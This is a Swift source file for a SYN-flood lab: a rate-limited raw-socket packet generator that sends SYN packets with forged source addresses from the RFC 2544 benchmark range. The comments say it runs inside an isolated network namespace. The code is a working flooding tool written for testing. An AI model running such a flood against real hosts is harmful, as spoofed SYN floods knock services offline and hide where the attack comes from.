// The attacker of the syn-flood lab: SYNs from random addresses, so many and no faster than asked, through a
// raw socket of the namespace in which `send` is called. The addresses are of 198.18.0.0/15, which
// RFC 2544 sets aside for benchmarks; the namespace has no way out, so what answers them is
// dropped by its kernel.

import Glibc
import UserTCP

struct SYNFlood: Sendable {
  static let sources: InterfaceAddress = InterfaceAddress(
    IPv4Address(198, 18, 0, 0), prefixLength: 15)

  var target: Endpoint
  var count: Int
  var perSecond: Int
  var seed: UInt64 = 1

  struct Result: Sendable {
    var sent = 0
    var seconds = 0.0
  }

  /// Blocks until all are sent. Needs CAP_NET_RAW.
  func send() throws(Failure) -> Result {
    let raw = socket(AF_INET, Int32(SOCK_RAW.rawValue | SOCK_CLOEXEC.rawValue), Int32(IPPROTO_RAW))
    guard raw >= 0 else { throw .system("a raw socket") }
    defer { close(raw) }
    var address = sockaddr_in(target)
    address.sin_port = 0
    var packet = SYNPacket(to: target)
    var random = SeededRandom(seed: seed)
    let clock = Stopwatch()
    var result = Result()
    for number in 0..<count {
      let (first, second) = (random.next(), random.next())
      packet.set(
        source: IPv4Address(
          bits: Self.sources.address.bits | UInt32(truncatingIfNeeded: first) >> 15),
        port: UInt16(truncatingIfNeeded: first >> 32) | 1024,
        sequence: UInt32(truncatingIfNeeded: second))
      if deliver(packet, raw, address) { result.sent += 1 }
      // On time at every hundredth packet; the kernel's timer is too coarse for each.
      if number % 100 == 99 { wait(until: Double(number) / Double(perSecond), clock) }
    }
    result.seconds = clock.seconds
    return result
  }

  private func deliver(_ packet: SYNPacket, _ raw: Int32, _ address: sockaddr_in) -> Bool {
    let octets = packet.octets
    return unsafe octets.withUnsafeBytes { buffer in
      unsafe address.withPointer {
        unsafe sendto(raw, buffer.baseAddress, buffer.count, 0, $0, $1)
      } > 0
    }
  }

  private func wait(until due: Double, _ clock: Stopwatch) {
    let early = due - clock.seconds
    if early > 0.0005 { usleep(UInt32(early * 1e6)) }
  }
}
